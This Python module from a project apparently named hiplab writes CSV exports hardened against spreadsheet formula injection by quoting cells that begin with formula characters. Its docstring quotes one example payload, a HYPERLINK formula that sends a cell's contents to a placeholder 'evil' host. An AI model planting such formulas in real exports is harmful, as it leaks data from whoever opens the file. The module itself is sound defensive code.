"""CSV files a person may open in a spreadsheet, safe from formula injection.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(and some treat a leading tab or carriage return the same way), so a name such as
``=HYPERLINK("http://evil/?"&A1)`` typed into hiplab would run on the computer of
whoever opens the export. Every CSV hiplab writes goes through :func:`csv_text`, which
passes each cell through :func:`safe_cell`.

Conventions
-----------
* A text cell starting with one of :data:`FORMULA_STARTS` gets a single quote ``'``
  in front (the OWASP advice): the spreadsheet shows it as text, quote included.
* Numbers stay numbers: ``int`` and ``float`` values, and text that is wholly one
  decimal number (``-5.2``, ``+3``, ``-1.5e-3``: what hiplab writes for a measured
  value), are left as they are. Such a cell cannot be a formula; ``-1+1`` or
  ``-cmd`` are not numbers and are quoted.
* Empty cells and every other text are left as they are.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula."""

_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """Return a CSV cell that a spreadsheet shows as written and never runs.

    Parameters
    ----------
    value : object
        The cell: a number, text or anything ``csv.writer`` accepts.

    Returns
    -------
    object
        ``value``, with a ``'`` in front when it is text starting with one of
        :data:`FORMULA_STARTS` and is not one decimal number.

    Examples
    --------
    >>> safe_cell("=1+2")
    "'=1+2"
    >>> safe_cell("-5.2"), safe_cell(-5.2), safe_cell("Alex K.")
    ('-5.2', -5.2, 'Alex K.')

    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    r"""Return rows (the header first) as CSV text, every cell through :func:`safe_cell`.

    Parameters
    ----------
    rows : iterable of iterables
        The header row, then the data rows.

    Returns
    -------
    str
        Comma-separated, ``\n`` line ends; a cell holding a comma, a quote or a line
        break (``\r`` too) is quoted.

    Examples
    --------
    >>> csv_text([["person", "value"], ["@SUM(A1)", -1.5]])
    "person,value\n'@SUM(A1),-1.5\n"

    """
    buffer = io.StringIO()
    # The writer quotes a cell holding a character of its line terminator; with "\n"
    # alone, Python 3.11 leaves a cell with "\r" bare, and a reader would start a new row
    # there (whose first cell then escapes safe_cell). So write "\r\n" and make it "\n".
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
        buffer.seek(buffer.tell() - 2)
        buffer.write("\n")
        buffer.truncate()
    return buffer.getvalue()
